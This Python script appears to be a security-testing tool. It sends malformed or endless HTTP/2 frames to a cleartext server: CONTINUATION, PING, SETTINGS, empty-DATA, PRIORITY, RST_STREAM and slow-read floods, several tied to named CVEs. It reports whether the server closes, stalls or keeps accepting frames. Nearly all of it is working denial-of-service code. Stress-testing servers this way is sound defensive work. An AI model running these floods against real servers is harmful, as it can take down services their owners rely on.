#!/usr/bin/env python3
"""Raw HTTP/2 frames a well-behaved client library would never send, against
a cleartext (h2c, prior knowledge) server, for the dialer's security tests.

usage: h2flood.py SCENARIO HOST PORT PATH [SECONDS]
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of
                16 KiB each without end (CVE-2024-28182)
  ping          PING frames without end, the answers never read
  settings      SETTINGS frames without end, the acks never read
  empty-data    a POST, then empty DATA frames without END_STREAM (CVE-2019-9518)
  padded-data   the same with DATA frames of padding only
  priority      PRIORITY frames for a million idle streams (CVE-2019-9513)
  window-update WINDOW_UPDATE frames of 1 byte without end
  reset-frames  RST_STREAM frames for streams that never existed
  window-download  not a flood: GET PATH and return the window of every DATA
                frame received in 1 KiB WINDOW_UPDATEs, to the stream and to
                the connection (a client that returns window in small
                pieces); prints "window-download done <bytes> <updates>"
                once the response has ended, "window-download closed ..." if
                the server closed the connection first
  slow-read     INITIAL_WINDOW_SIZE 0, then 50 GETs of PATH, never a
                WINDOW_UPDATE: the responses can never be sent; reads what
                comes until every stream is reset or SECONDS have passed and
                prints "slow-read reset <streams> <seconds>" or
                "slow-read held <streams reset> <seconds>"
Each other scenario sends for at most SECONDS (default 10) and prints one line:
"<scenario> closed <frames> <seconds>" when the server closed or reset the
connection, "<scenario> stalled ..." when the server stopped reading
(for the SECONDS after the flood's time, too), "<scenario> open <frames> <seconds>" when it was still taking
frames at the end."""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name, value):
    out = bytearray([0x00])  # literal without indexing, new name
    for s in (name.encode(), value.encode()):
        if len(s) < 127:
            out += bytes([len(s)])
        else:  # HPACK integer with a 7-bit prefix
            out.append(127)
            n = len(s) - 127
            while n >= 128:
                out.append((n & 127) | 128)
                n >>= 7
            out.append(n)
        out += s
    return bytes(out)


def request(host, port, method, path):
    return b"".join(literal(k, v) for k, v in [
        (":method", method), (":scheme", "http"), (":path", path),
        (":authority", "%s:%d" % (host, port))])


def frames(scenario, host, port, path):
    """Yields the frames to send, after the preface and an empty SETTINGS."""
    if scenario == "continuation":
        yield frame(1, 0, 1, request(host, port, "GET", path))  # no END_HEADERS
        junk = literal("x-junk", "j" * 16000)
        while True:
            yield frame(9, 0, 1, junk)
    elif scenario == "ping":
        i = 0
        while True:
            i += 1
            yield frame(6, 0, 0, struct.pack(">Q", i))
    elif scenario == "settings":
        while True:
            yield frame(4, 0, 0, struct.pack(">HI", 3, 100))  # MAX_CONCURRENT_STREAMS
    elif scenario == "empty-data":
        yield frame(1, 0x4, 1, request(host, port, "POST", path))  # END_HEADERS
        while True:
            yield frame(0, 0, 1, b"")
    elif scenario == "padded-data":
        yield frame(1, 0x4, 1, request(host, port, "POST", path))
        while True:
            yield frame(0, 0x8, 1, bytes([200]) + bytes(200))  # PADDED, padding only
    elif scenario == "priority":
        sid = 1
        while True:
            yield frame(2, 0, sid, struct.pack(">IB", 0, 15))
            sid = sid + 2 if sid < 2000001 else 1
    elif scenario == "window-update":
        yield frame(1, 0x4, 1, request(host, port, "POST", path))
        while True:
            yield frame(8, 0, 0, struct.pack(">I", 1))
    elif scenario == "reset-frames":
        sid = 1
        while True:
            yield frame(3, 0, sid, struct.pack(">I", 8))
            sid += 2
    else:
        raise SystemExit("unknown scenario " + scenario)


SLOW_STREAMS = 50


def parse_frames(buf):
    """The whole frames at the start of buf, as (type, flags, stream, length), and the rest."""
    out = []
    while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
        n = int.from_bytes(buf[:3], "big")
        out.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, n))
        buf = buf[9 + n:]
    return out, buf


def slow_read(s, host, port, path, seconds):
    s.sendall(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) +  # INITIAL_WINDOW_SIZE 0
              b"".join(frame(1, 0x5, 1 + 2 * i, request(host, port, "GET", path))
                       for i in range(SLOW_STREAMS)))
    t0 = time.monotonic()
    reset = set()
    buf = b""
    s.settimeout(0.5)
    while time.monotonic() - t0 < seconds and len(reset) < SLOW_STREAMS:
        try:
            more = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            more = b""
        if not more:
            reset = set(range(SLOW_STREAMS))  # the connection is gone: all of them
            break
        frames, buf = parse_frames(buf + more)
        for ftype, flags, stream, n in frames:
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0, b""))
            elif ftype == 6 and not flags & 1:
                s.sendall(frame(6, 1, 0, bytes(8)))  # alive: it answers PINGs
            elif ftype == 3 or (ftype in (0, 1) and flags & 1):
                reset.add(stream)
            elif ftype == 7:
                reset = set(range(SLOW_STREAMS))
    word = "reset" if len(reset) >= SLOW_STREAMS else "held"
    print("slow-read %s %d %.1f" % (word, len(reset), time.monotonic() - t0))


def window_download(s, host, port, path, seconds):
    s.sendall(PREFACE + frame(4, 0, 0, b"") +
              frame(1, 0x5, 1, request(host, port, "GET", path)))
    s.settimeout(seconds)
    buf, got, updates, word = b"", 0, 0, "closed"
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        try:
            more = s.recv(65536)
        except OSError:  # reset, or nothing for SECONDS: reported as closed
            break
        if not more:
            break
        out = []
        ended = False
        frames, buf = parse_frames(buf + more)
        for ftype, flags, stream, n in frames:
            if ftype == 4 and not flags & 1:
                out.append(frame(4, 1, 0, b""))
            elif ftype == 0 and stream == 1:
                got += n
                for k in range(0, n, 1024):
                    piece = struct.pack(">I", min(1024, n - k))
                    out.append(frame(8, 0, 1, piece) + frame(8, 0, 0, piece))
                    updates += 2
            elif ftype in (3, 7):
                ended = True
            if stream == 1 and ftype in (0, 1) and flags & 1:
                word, ended = "done", True
        try:
            s.sendall(b"".join(out))
        except OSError:
            break
        if ended:
            break
    print("window-download %s %d %d" % (word, got, updates))


def main():
    scenario, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 10.0
    s = socket.create_connection((host, port), timeout=10)
    if scenario == "slow-read":
        slow_read(s, host, port, path, seconds)
        return
    if scenario == "window-download":
        window_download(s, host, port, path, seconds)
        return
    s.sendall(PREFACE + frame(4, 0, 0, b""))
    s.settimeout(seconds + 5)
    sent = 0
    t0 = time.monotonic()
    batch = []
    try:
        for f in frames(scenario, host, port, path):
            batch.append(f)
            if len(batch) < 64:
                continue
            s.sendall(b"".join(batch))
            sent += len(batch)
            batch = []
            if time.monotonic() - t0 > seconds:
                print("%s open %d %.1f" % (scenario, sent, time.monotonic() - t0))
                return
    except socket.timeout:
        print("%s stalled %d %.1f" % (scenario, sent, time.monotonic() - t0))
        return
    except (BrokenPipeError, ConnectionResetError):
        pass
    print("%s closed %d %.1f" % (scenario, sent, time.monotonic() - t0))


if __name__ == "__main__":
    main()
